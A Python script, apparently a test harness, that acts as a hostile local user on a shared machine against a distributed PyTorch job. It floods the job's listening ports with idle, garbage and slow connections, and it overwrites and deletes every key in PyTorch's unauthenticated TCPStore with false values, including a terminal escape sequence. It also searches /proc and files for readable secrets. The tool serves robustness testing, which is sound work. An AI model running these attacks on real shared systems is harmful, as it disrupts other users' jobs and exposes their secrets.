#!/usr/bin/env python3
"""What another user does to a job on the same node: connects to each port on which the job's user listens, as often as
told, and sends nothing, or garbage at once, or a byte each second; changes every key of PyTorch's store; reads what the
kernel shows to everyone.

    stranger.py flood UID CONNECTIONS   # until standard input ends, each line of which is the port of a store whose
        keys to change from then on; then prints "port PORT CONNECTIONS" and "store PORT TURNS DELETED" for each
    stranger.py store PORT              # until standard input ends; prints "changes", then turns and deleted keys
    stranger.py search SINCE FOLDER... <SECRETS   # prints each place where one of the secrets can be read: of processes
        and sockets, and of files that were changed after SINCE
"""

import contextlib
import os
import resource
import selectors
import socket
import stat
import struct
import sys
import threading
import time
from pathlib import Path

LISTENING = "0A"  # in /proc/net/tcp


def ports_of(user):
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == LISTENING and int(fields[7]) == user:
                found.add(int(fields[1].rsplit(":", 1)[1], 16))
    return found


class Flood:
    """Non-blocking connections, a third of each kind. Those that the other side closes are made again."""

    def __init__(self, wanted):
        self.wanted = wanted
        self.most = resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 64
        self.selector = selectors.DefaultSelector()
        self.open, self.made = {}, {}  # port: number of connections
        self.slow = []
        self.next_byte = time.monotonic()

    def connect(self, port):
        if sum(self.open.values()) >= self.most:  # the ports of earlier ranks still have some
            return
        one = socket.socket()
        one.setblocking(False)
        if one.connect_ex(("127.0.0.1", port)) not in (0, 115):
            one.close()
            return
        self.selector.register(one, selectors.EVENT_READ, port)
        self.open[port] += 1
        self.made[port] += 1
        kind = self.made[port] % 3
        if kind == 1:
            self.slow.append(one)
        elif kind == 2:
            self.send(one, os.urandom(100 + self.made[port] % 5000))

    @staticmethod
    def send(one, data):
        try:
            one.send(data)
        except OSError:
            pass

    def turn(self, ports):
        for port in ports:
            self.made.setdefault(port, 0)
            for _ in range(min(200, self.wanted - self.open.setdefault(port, 0))):
                self.connect(port)
        for key, _ in self.selector.select(0.01):
            try:
                over = key.fileobj.recv(4096) == b""
            except BlockingIOError:
                over = False
            except OSError:
                over = True
            if over:
                self.selector.unregister(key.fileobj)
                key.fileobj.close()
                self.open[key.data] -= 1
        if time.monotonic() >= self.next_byte:
            self.next_byte = time.monotonic() + 1
            self.slow = [one for one in self.slow if one.fileno() >= 0]
            for one in self.slow:
                self.send(one, b"x")


def flood(user, wanted):
    attack, stores, over = Flood(wanted), [], threading.Event()

    def read():
        for line in sys.stdin:
            stores.append(threading.Thread(target=change_store, args=(int(line), over.is_set, f"store {int(line)}")))
            stores[-1].start()
        over.set()

    threading.Thread(target=read).start()
    while not over.is_set():
        attack.turn(ports_of(user))
    for store in stores:
        store.join()
    for port, made in sorted(attack.made.items()):
        print("port", port, made)


class Store:
    """A client of TCPStore, which asks no one for a proof."""

    SET, GET, DELETE, KEYS = 1, 3, 8, 17

    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=20)
        self.socket.sendall(struct.pack("<BI", 0, 0x3C85F7CE))

    def read(self, size):
        data = b""
        while len(data) < size:
            part = self.socket.recv(size - len(data))
            if not part:
                raise ConnectionError
            data += part
        return data

    def number(self):
        return struct.unpack("<q", self.read(8))[0]

    def send(self, query, *texts):
        self.socket.sendall(bytes([query]) + b"".join(struct.pack("<Q", len(text)) + text for text in texts))

    def keys(self):
        self.send(self.KEYS)
        return [self.read(self.number()) for _ in range(self.number())]

    def value(self, key):
        self.send(self.GET, key)
        return self.read(self.number())

    def set(self, key, value):
        self.send(self.SET, key, value)

    def delete(self, key):
        self.send(self.DELETE, key)
        return self.number()


# A control sequence of terminals, the form of a report of files that is a gigabyte long, and no form at all.
FALSE = (b"failed \x1b]0;a false line\x07\n", b"x 8 0 - 30000000", b"", b"yes", b"\xff" * (1 << 16))


def change_store(port, is_over, name):
    """Each key that exists, and those that a failure might read next, until the store ends. Prints the name, turns and
    deleted keys."""
    ranks = range(3)
    names = [b"own error", b"reporter",
             *(b"%s/%d" % (name, rank) for name in (b"noticed", b"ended", b"done", b"joined") for rank in ranks)]
    turn, deleted, prefixes = 0, 0, set()
    with contextlib.suppress(OSError):
        store = Store(port)
        while not is_over():
            keys = store.keys()
            prefixes |= {key[:-len(b"heartbeat")] for key in keys if key.endswith(b"heartbeat")}
            if turn % 20 == 0:  # seldom, so that a key is deleted as soon as it is there
                for key in [*keys, *(prefix + name for prefix in prefixes for name in names)]:
                    store.set(key, FALSE[turn // 20 % len(FALSE)])
                keys = store.keys()
            for key in keys:
                deleted += store.delete(key)
            turn += 1
            if turn == 1:
                print("changes", flush=True)
    print(name, turn, deleted, flush=True)


def change_one_store(port):
    with selectors.DefaultSelector() as ended:
        ended.register(sys.stdin, selectors.EVENT_READ)
        change_store(port, lambda: ended.select(0), "store")


def texts_of_processes():
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "comm", "environ", "maps", "stat", "status", "wchan"):
            yield process / name
        for link in ("exe", "cwd"):
            yield process / link


def files_below(folder):
    for root, folders, names in os.walk(folder, onerror=None, followlinks=False):
        for name in folders + names:
            yield Path(root) / name


def content_of(path, since=0.0):
    """Empty where it cannot be read. Never waits: no pipe or device is opened."""
    try:
        if path.is_symlink():
            return os.fsencode(os.readlink(path))
        if not stat.S_ISREG(path.lstat().st_mode) or path.lstat().st_mtime < since:
            return b""
        with open(path, "rb") as file:
            return file.read(1 << 28)
    except OSError:
        return b""


def search(since, folders):
    secrets = [line.encode() for line in sys.stdin.read().split()]
    sys.stdout.reconfigure(errors="backslashreplace")  # a name of a file need not be UTF-8

    def look(place, since=0.0):
        text = os.fsencode(place) + b"\n" + content_of(place, since)
        for secret in secrets:
            if secret in text:
                print(place, secret.decode())

    for place in [*texts_of_processes(), *Path("/proc/net").glob("*")]:
        look(place)
    for folder in folders:
        for place in files_below(folder):
            look(place, since)


if __name__ == "__main__":
    if sys.argv[1] == "flood":
        flood(int(sys.argv[2]), int(sys.argv[3]))
    elif sys.argv[1] == "store":
        change_one_store(int(sys.argv[2]))
    else:
        search(float(sys.argv[2]), sys.argv[3:])
